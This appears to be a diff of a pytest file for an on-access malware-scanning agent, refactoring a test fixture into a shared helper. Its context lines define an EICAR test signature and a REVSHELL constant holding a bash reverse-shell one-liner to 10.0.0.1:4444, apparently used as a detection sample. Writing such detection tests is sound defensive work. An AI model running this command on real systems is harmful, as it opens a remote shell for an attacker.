@@ -20,10 +20,9 @@ import time
 
 import pytest
 
-from agentlib import (DEFAULT_SRC, EICAR_RULE, Agent, assemble, default_content, key_id,
-                      manifest_for, openssl_sign, read_journal, wait_events, wardd_path)
+from agentlib import (DEFAULT_SRC, EICAR_RULE, assemble, key_id, manifest_for, onaccess_box,
+                      openssl_sign, read_journal, wait_events, wardd_path)
 from conftest import EICAR
-from userlib import own_tmpfs
 
 EICAR_SHA = hashlib.sha256(EICAR).hexdigest()
 REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
@@ -31,38 +30,8 @@ REVSHELL = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
 
 @pytest.fixture
 def box(ward, tmp_path):
-    if os.geteuid() != 0:
-        pytest.fail("the exception tests run as root (make check runs them so)", pytrace=False)
-    with own_tmpfs(tmp_path / "mnt", "64m") as mnt:
-        yield from _box(ward, tmp_path, mnt)
-
-
-def _box(ward, tmp_path, mnt):
-    rel, v1 = default_content(ward, tmp_path)
-    agents = []
-
-    class Box:
-        pass
-
-    b = Box()
-    b.mnt, b.ward, b.tmp, b.rel, b.v1 = str(mnt), ward, tmp_path, rel, v1
-
-    def agent(extra=(), onaccess=(), start=True):
-        d = tmp_path / ("agent%d" % len(agents))
-        d.mkdir()
-        lines = ["onaccess:", "  paths: [%s]" % mnt] + list(onaccess) + list(extra)
-        a = Agent(ward, d, [rel[1]], extra=lines)
-        agents.append(a)
-        if start:
-            a.start()
-            p = a.apply(v1)
-            assert p.returncode == 0, p.stderr
-        return a
-
-    b.agent = agent
-    yield b
-    for a in agents:
-        a.stop()
+    with onaccess_box(ward, tmp_path, "exception") as b:
+        yield b
 
 
 def events(a, action):
